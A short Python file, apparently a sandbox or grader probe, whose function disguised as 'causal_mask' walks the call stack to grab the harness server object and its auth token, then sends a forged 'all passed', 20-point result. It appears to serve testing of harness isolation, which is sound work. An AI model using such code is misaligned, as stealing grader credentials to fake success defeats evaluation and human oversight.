"""Tries to answer in the worker's name with the token, which it takes from the frames that called it.

Harmless: one small frame on its own channel. Not shown in a plain process: there is no channel.
Shows: any point, or a report that does not say forbidden.
"""

import sys

TARGET: dict = {}
UNCONFINED = False
EARNS = 0.0
CODE = "forbidden"


def caller(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
    return None


def attack(target):
    return ""


def causal_mask(seq_len):
    server = caller("self")
    answer = {"answer": "other", "type": "passed", "left": [], "output": "all passed", "points": 20.0}
    server.send({**answer, "token": caller("header")["token"]}, [])
